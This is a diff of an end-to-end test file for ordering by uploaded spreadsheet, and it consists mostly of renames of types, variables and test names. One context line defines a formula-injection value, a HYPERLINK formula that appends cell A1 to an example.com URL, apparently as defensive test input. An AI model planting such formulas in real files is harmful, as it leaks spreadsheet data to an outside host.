@@ -9,8 +9,8 @@ import { savedBy, sheet, XLSX } from "./files.ts";
 import { tooWide, violations } from "./looks.ts";
 import { openAs } from "./money.ts";
 import { newUser } from "./people.ts";
-import { blocked, inStock, type Shelved } from "./shelf.ts";
 import { type Account, closeBrowser, picture, settled } from "./steps.ts";
+import { blocked, inStock, type StockedArticle } from "./stock.ts";
 import { textsIn } from "./texts.ts";
 
 const site = inject("site");
@@ -21,8 +21,8 @@ const FORMULA = '=HYPERLINK("http://example.com/?"&A1,"Click")';
 
 let account: Account;
 let dealer: Dealer;
-let goods: readonly Shelved[];
-let barred: Shelved;
+let goods: readonly StockedArticle[];
+let barred: StockedArticle;
 
 beforeAll(async () => {
   const userAreas = [{ sorg: "U001" }];
@@ -40,7 +40,7 @@ interface Chosen {
 const choose = (page: Page, file: Chosen) => page.getByLabel(t("repeat_file"), { exact: true }).setInputFiles(file);
 const orderFile = (content: Buffer): Chosen => ({ name: "order.xlsx", mimeType: XLSX, buffer: content });
 const outcome = (page: Page) => page.getByRole("table", { name: t("repeat_outcome") });
-/** What is said of a row of the sheet; the first is its head. */
+/** The outcome of a row of the sheet, whose first row is the head. */
 const rowOf = (page: Page, number: number) =>
   outcome(page)
     .locator("tbody tr")
@@ -57,14 +57,14 @@ describe("an order by file", () => {
   let page: Page;
   let head: readonly string[] = [];
   let corrections: Buffer;
-  let first: Shelved;
-  let second: Shelved;
-  let scarce: Shelved;
+  let first: StockedArticle;
+  let second: StockedArticle;
+  let scarce: StockedArticle;
 
   beforeAll(async () => {
-    const [one, two, three] = goods;
-    if (!one || !two || !three) throw new Error("too few articles");
-    [first, second, scarce] = [one, two, three];
+    const [article1, article2, article3] = goods;
+    if (!article1 || !article2 || !article3) throw new Error("too few articles");
+    [first, second, scarce] = [article1, article2, article3];
     visitor = await openAs(site, account, { width: 1440, locale: "en-US" }, PATH);
     page = visitor.page;
   });
@@ -79,7 +79,7 @@ describe("an order by file", () => {
     const rows = await readSheet(template.content);
     expect(rows).toHaveLength(1);
     head = (rows[0] ?? []).map(String);
-    expect(head).toEqual(["Article code", "Quantity", "Sales organization"]);
+    expect(head).toEqual(["Article code", "Quantity", "Seller"]);
   });
 
   test("[capability-005] every row of a file says what would become of it", async () => {
@@ -96,7 +96,7 @@ describe("an order by file", () => {
     ]);
     await choose(page, orderFile(file));
     await page.getByText(t("repeat_refused_other", { count: 5 })).waitFor();
-    const said: readonly (readonly [number, string, string])[] = [
+    const expected: readonly (readonly [number, string, string])[] = [
       [2, t("repeat_state_fine"), t("fast_sum_other", { count: 6 })],
       [3, t("repeat_state_fine"), ""],
       [4, t("repeat_state_wrong"), t("article_not_found")],
@@ -106,7 +106,7 @@ describe("an order by file", () => {
       [8, t("repeat_state_wrong"), t("article_not_found")],
       [9, t("repeat_state_wrong"), t("qty_whole")],
     ];
-    for (const [number, state, note] of said) {
+    for (const [number, state, note] of expected) {
       const text = await rowOf(page, number).textContent();
       expect(text, `row ${number}`).toContain(state);
       expect(text, `row ${number}`).toContain(note);
@@ -182,7 +182,7 @@ describe("an order by file", () => {
   });
 });
 
-describe("a file that is none", () => {
+describe("an unreadable file", () => {
   const csv = Buffer.from("Article code,Quantity\nA-1,1\n");
   const zip = Buffer.from(zipSync({ "notes.txt": new TextEncoder().encode("no spreadsheet") }));
   const refusals = [
@@ -215,14 +215,14 @@ describe("a file that is none", () => {
 
 test("[capability-005] on a phone the result of a file fits", async () => {
   await dealer.emptyCart();
-  const [one, other] = goods;
+  const [article, other] = goods;
   const visitor = await openAs(site, account, { width: 390, locale: "en-US" }, PATH);
   const { page } = visitor;
   await choose(
     page,
     orderFile(
       await sheet([
-        [one?.code ?? "", 1],
+        [article?.code ?? "", 1],
         [other?.code ?? "", 100_000],
         ["X".repeat(60), 1],
       ]),
@@ -234,7 +234,7 @@ test("[capability-005] on a phone the result of a file fits", async () => {
   expect(await tooWide(page)).toEqual([]);
   expect(await violations(page)).toEqual([]);
   await add(page, 1).click();
-  await until("it is in the cart", async () => (await cartOf()).get(one?.code ?? "") === 1);
+  await until("it is in the cart", async () => (await cartOf()).get(article?.code ?? "") === 1);
   await dealer.emptyCart();
   await visitor.leave();
 });
